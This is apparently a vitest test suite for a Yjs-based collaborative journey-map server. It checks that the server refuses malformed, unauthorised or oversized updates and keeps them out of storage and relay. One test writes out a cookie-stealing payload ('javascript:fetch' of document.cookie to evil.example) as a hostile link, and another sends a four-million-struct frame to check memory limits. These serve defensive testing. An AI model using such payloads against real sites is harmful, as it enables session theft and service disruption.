import {
  addCard,
  addPersona,
  addStage,
  readCards,
  readEmotions,
  readLanes,
  readMap,
  readMeta,
  readPersonas,
  readStages,
  renameStage,
  SCHEMA_VERSION,
  setEmotion,
  spliceCardText,
  updateCard,
} from '@waymark/model';
import { beforeEach, describe, expect, it } from 'vitest';
import * as Y from 'yjs';
import { connect, createMap, synced, tokenOf, waitFor, type Client } from '../support/clients.js';
import { fourMillionStructsFrame, openRaw, permissionDenials } from '../support/raw-socket.js';
import type { RunningServer } from '../support/server.js';
import { storedDoc } from '../support/stored-maps.js';
import { useServerTestBed } from '../support/test-bed.js';

const denials = (client: Client) => client.said.filter((said) => said.kind === 'denied');

describe('every update is checked before it is applied, stored or relayed', () => {
  const bed = useServerTestBed();
  let running: RunningServer;
  beforeEach(async () => {
    running = await bed.start({ ROOM_IDLE_MS: '50' });
  });

  async function twoEditors() {
    const map = await createMap(running.url, { template: 'buyer-journey' });
    const a = connect(running.url, map.id, tokenOf(map.links.editor));
    const b = connect(running.url, map.id, tokenOf(map.links.editor));
    bed.clients.push(a, b);
    await Promise.all([synced(a), synced(b)]);
    return { map, a, b };
  }

  it('refuses a schemaVersion from a client, so the map still opens after it unloads', async () => {
    const { map, a, b } = await twoEditors();
    for (const value of ['garbage', 99]) a.doc.getMap('meta').set('schemaVersion', value);
    await waitFor(() => denials(a).length >= 2, 'both refusals');
    expect(denials(a)[0]!.reason).toMatch(/meta\.schemaVersion is set by the server/);
    await waitFor(() => a.doc.getMap('meta').get('schemaVersion') === SCHEMA_VERSION, 'the version restored at the sender');
    a.destroy();
    b.destroy();
    await waitFor(() => running.server.rooms.size === 0, 'the room to unload');
    expect(readMeta(await storedDoc(running, map.id)).schemaVersion).toBe(SCHEMA_VERSION);
    const response = await fetch(`${running.url}/api/maps/${map.id}?token=${tokenOf(map.links.viewer)}`);
    expect(response.status).toBe(200);
    const again = connect(running.url, map.id, tokenOf(map.links.editor));
    bed.clients.push(again);
    await synced(again);
    addStage(again.doc, { name: 'Still editable' });
    await waitFor(async () => readStages(await storedDoc(running, map.id)).some((s) => s.name === 'Still editable'), 'the edit stored');
  });

  it.each([
    ['an unknown top-level type', (doc: Y.Doc) => doc.getMap('junk').set('x', 'junk-value'), /"junk" is not part of a journey map/],
    ['text at the top level', (doc: Y.Doc) => doc.getText('orphans').insert(0, 'junk-value'), /"orphans" is not part of a journey map/],
    ['an array where a record belongs', (doc: Y.Doc) => doc.getMap('stages').set('junkStage', ['junk-value']), /a record must be a map/],
    ['a subdocument', (doc: Y.Doc) => doc.getMap('cards').set('junkCard', new Y.Doc({ guid: 'junk-value' })), /a record must be a map/],
    [
      'an unknown field on a record',
      (doc: Y.Doc) => (doc.getMap('stages').values().next().value as Y.Map<unknown>).set('junkField', 'junk-value'),
      /junkField is not a field of stages/,
    ],
    [
      'a record without its required fields',
      (doc: Y.Doc) => doc.getMap('cards').set('junkCard', new Y.Map([['text', new Y.Text('junk-value')]])),
      /a new card needs stageId, laneId, order/,
    ],
    [
      'a field of the wrong type',
      (doc: Y.Doc) => (doc.getMap('stages').values().next().value as Y.Map<unknown>).set('order', 42),
      /order must be an order key/,
    ],
  ])('refuses %s: nothing stored or relayed, and the sender is brought back in line', async (_what, write, reason) => {
    const { map, a, b } = await twoEditors();
    write(a.doc);
    await waitFor(() => denials(a).length > 0, 'the refusal');
    expect(denials(a)[0]!.reason).toMatch(reason);
    // Then an allowed change from the same person: it arrives, and both read one map.
    addStage(a.doc, { name: 'After the refusal' });
    await waitFor(() => readStages(b.doc).some((s) => s.name === 'After the refusal'), 'the later change at the other editor');
    await waitFor(() => JSON.stringify(readMap(a.doc)) === JSON.stringify(readMap(b.doc)), 'the sender back in line');
    expect(readMap(b.doc).problems).toEqual([]);
    const stored = await running.server.store.load(map.id);
    for (const bytes of [stored.snapshot, ...stored.updates]) expect(Buffer.from(bytes ?? []).includes('junk')).toBe(false);
    const doc = await storedDoc(running, map.id);
    expect([...doc.share.keys()].every((key) => ['meta', 'stages', 'lanes', 'cards', 'personas', 'emotions'].includes(key))).toBe(true);
    expect(readMap(doc).problems).toEqual([]);
  });

  /** An owner and a participant on a fresh map, with the first stage and a card lane. */
  async function ownerAndParticipant() {
    const map = await createMap(running.url, { template: 'buyer-journey' });
    const owner = connect(running.url, map.id, tokenOf(map.links.owner));
    const participant = connect(running.url, map.id, tokenOf(map.links.participant));
    bed.clients.push(owner, participant);
    await Promise.all([synced(owner), synced(participant)]);
    const stage = readStages(participant.doc)[0]!;
    const laneId = readLanes(participant.doc).find((l) => l.kind !== 'emotions')!.id;
    return { map, owner, participant, stage, laneId };
  }

  it('undoes only the refused change and keeps the rest of that person’s work', async () => {
    const { owner, participant, stage, laneId } = await ownerAndParticipant();
    const card = addCard(participant.doc, { stageId: stage.id, laneId, text: 'Before' });
    renameStage(participant.doc, stage.id, 'Participant renamed');
    spliceCardText(participant.doc, card, { index: 6, remove: 0, insert: ' and after' });
    await waitFor(() => readCards(owner.doc).some((c) => c.text === 'Before and after'), 'both card edits at the owner');
    await waitFor(() => readStages(participant.doc)[0]!.name === stage.name, 'the rename undone at the participant');
    expect(denials(participant)).toHaveLength(1);
    expect(denials(participant)[0]!.reason).toMatch(/your participant link may not change a stage's name/);
    expect(readStages(owner.doc)[0]!.name).toBe(stage.name);
    await waitFor(() => JSON.stringify(readMap(participant.doc)) === JSON.stringify(readMap(owner.doc)), 'one map');
  });

  it('lets a participant change its own emotion rating but not another participant’s', async () => {
    const { map, owner, participant, stage } = await ownerAndParticipant();
    const personaId = addPersona(owner.doc, { name: 'Pat' });
    const other = connect(running.url, map.id, tokenOf(map.links.participant));
    bed.clients.push(other);
    await synced(other);
    await waitFor(() => readPersonas(participant.doc).length > 0 && readPersonas(other.doc).length > 0, 'the persona at both participants');
    const rating = (doc: Y.Doc, who: string) =>
      readEmotions(doc).find((point) => point.personaId === personaId && point.stageId === stage.id)?.participants[who];
    setEmotion(participant.doc, { personaId, stageId: stage.id, participantId: 'ana', score: -2 });
    setEmotion(participant.doc, { personaId, stageId: stage.id, participantId: 'ana', score: -1 });
    await waitFor(() => rating(other.doc, 'ana') === -1, 'ana’s changed rating at the other participant');
    setEmotion(other.doc, { personaId, stageId: stage.id, participantId: 'ana', score: 3 });
    await waitFor(() => denials(other).length > 0, 'the refusal');
    expect(denials(other)[0]!.reason).toMatch(/only its author may change an emotion rating/);
    await waitFor(() => rating(other.doc, 'ana') === -1, 'the overwrite undone at its sender');
    expect(rating(owner.doc, 'ana')).toBe(-1);
    expect(denials(participant)).toEqual([]);
  });

  it('keeps the rest of an offline session when part of it is refused', async () => {
    const { owner, participant, stage, laneId } = await ownerAndParticipant();
    const ownerCard = addCard(owner.doc, { stageId: stage.id, laneId, text: 'Owner' });
    await waitFor(() => readCards(participant.doc).some((c) => c.id === ownerCard), 'the owner’s card at the participant');
    participant.provider.disconnect();
    const offlineCard = addCard(participant.doc, { stageId: stage.id, laneId, text: 'Written on the train' });
    renameStage(participant.doc, stage.id, 'Renamed offline');
    spliceCardText(participant.doc, ownerCard, { index: 5, remove: 0, insert: ', seen' });
    participant.provider.connect();
    await waitFor(() => readCards(owner.doc).some((c) => c.id === offlineCard), 'the offline card at the owner');
    await waitFor(() => readCards(owner.doc).find((c) => c.id === ownerCard)?.text === 'Owner, seen', 'the offline typing at the owner');
    await waitFor(() => readStages(participant.doc)[0]!.name === stage.name, 'the rename undone at the participant');
    expect(readStages(owner.doc)[0]!.name).toBe(stage.name);
    expect(denials(participant)[0]!.reason).toMatch(/your participant link may not change a stage's name/);
    await waitFor(() => JSON.stringify(readMap(participant.doc)) === JSON.stringify(readMap(owner.doc)), 'one map');
  });

  it('refuses a card or rating that points at a stage or persona the map never had', async () => {
    const { owner, participant, stage, laneId } = await ownerAndParticipant();
    const card = addCard(participant.doc, { stageId: stage.id, laneId, text: 'Mine' });
    await waitFor(() => readCards(owner.doc).some((c) => c.id === card), 'the card at the owner');
    (participant.doc.getMap('cards').get(card) as Y.Map<unknown>).set('stageId', 'noSuchStage');
    participant.doc.getMap('emotions').set(`noSuchPersona:${stage.id}:me`, 2);
    await waitFor(() => denials(participant).length === 2, 'both refusals');
    expect(denials(participant).map((d) => d.reason)).toEqual([
      expect.stringMatching(/a card's stageId refers to a stage the map does not have/),
      expect.stringMatching(/an emotion rating refers to a persona the map does not have/),
    ]);
    await waitFor(() => JSON.stringify(readMap(participant.doc)) === JSON.stringify(readMap(owner.doc)), 'one map');
    expect(readMap(owner.doc).problems).toEqual([]);
  });

  it('refuses an evidence source whose link is not a web address, written straight into the document', async () => {
    const { map, owner, participant, stage, laneId } = await ownerAndParticipant();
    const card = addCard(participant.doc, { stageId: stage.id, laneId, text: 'Fees come late' });
    updateCard(participant.doc, card, { sources: [{ kind: 'quote', text: 'I only saw the fee at the end' }] });
    await waitFor(() => readCards(owner.doc).find((c) => c.id === card)?.sources.length === 1, 'the quote at the owner');
    // The model's own write refuses it, so a hostile client skips the model and sets the field itself.
    expect(() => updateCard(participant.doc, card, { sources: [{ kind: 'link', text: 'Report', url: 'javascript:alert(1)' }] })).toThrow(
      /url must be an http or https address/,
    );
    const record = participant.doc.getMap('cards').get(card) as Y.Map<unknown>;
    const hostile = { kind: 'link', text: 'Report', url: 'javascript:fetch("//evil.example?"+document.cookie)', count: 0, origin: '' };
    record.set('sources', [hostile]);
    await waitFor(() => denials(participant).length === 1, 'the refusal');
    expect(denials(participant)[0]!.reason).toMatch(/url must be an http or https address/);
    // Taken back at the sender; never reached the owner or the store.
    await waitFor(
      () => readCards(participant.doc).find((c) => c.id === card)?.sources[0]?.kind === 'quote',
      'the quote back at the sender',
    );
    expect(readCards(owner.doc).find((c) => c.id === card)?.sources).toEqual([
      { kind: 'quote', text: 'I only saw the fee at the end', url: '', count: 0, origin: '' },
    ]);
    const stored = await running.server.store.load(map.id);
    for (const bytes of [stored.snapshot, ...stored.updates]) expect(Buffer.from(bytes ?? []).includes('evil.example')).toBe(false);
    // A web address is fine.
    record.set('sources', [{ ...hostile, url: 'https://research.example/fees' }]);
    await waitFor(
      () => readCards(owner.doc).find((c) => c.id === card)?.sources[0]?.url === 'https://research.example/fees',
      'the link at the owner',
    );
    expect(denials(participant)).toHaveLength(1);
  });

  it('takes a write that lands on a refused one as collected, on the server and at its sender', async () => {
    const { map, a, b } = await twoEditors();
    a.doc.getMap('stages').set('sameId', 'not a record');
    await waitFor(() => denials(a).length === 1, 'the refusal');
    // The same key again, now well formed: it builds on the refused write, which the server collected.
    a.doc.getMap('stages').set(
      'sameId',
      new Y.Map<unknown>([
        ['name', 'Second try'],
        ['order', 'a5'],
      ]),
    );
    addStage(a.doc, { name: 'Marker' });
    await waitFor(() => readStages(b.doc).some((s) => s.name === 'Marker'), 'the marker');
    await waitFor(() => JSON.stringify(readMap(a.doc)) === JSON.stringify(readMap(b.doc)), 'one map');
    const stored = await running.server.store.load(map.id);
    for (const bytes of [stored.snapshot, ...stored.updates]) expect(Buffer.from(bytes ?? []).includes('Second try')).toBe(false);
  });

  it('refuses four million structs from a viewer unread, and from an editor after reading their count', async () => {
    const { map, a, b } = await twoEditors();
    const frame = fourMillionStructsFrame();
    const rssBefore = process.memoryUsage().rss;
    const viewer = await openRaw(running.url, map.id, tokenOf(map.links.viewer));
    for (let i = 0; i < 3; i++) viewer.ws.send(frame);
    await waitFor(() => permissionDenials(viewer.received).length === 3, 'three refusals for the viewer');
    expect(permissionDenials(viewer.received)[0]).toMatch(/read-only/);
    const editor = await openRaw(running.url, map.id, tokenOf(map.links.editor));
    editor.ws.send(frame);
    const closed = await editor.closed;
    expect(closed.code).toBe(4413);
    expect(closed.reason).toMatch(/more than 100000 parts/);
    // Nothing was built from them: the old server grew by about 700 MB on three such frames.
    expect(process.memoryUsage().rss - rssBefore).toBeLessThan(200 * 1024 * 1024);
    addStage(a.doc, { name: 'Unaffected' });
    await waitFor(() => readStages(b.doc).some((s) => s.name === 'Unaffected'), 'others to keep syncing');
    expect(viewer.ws.readyState).toBe(viewer.ws.OPEN);
    viewer.ws.close();
  });
});
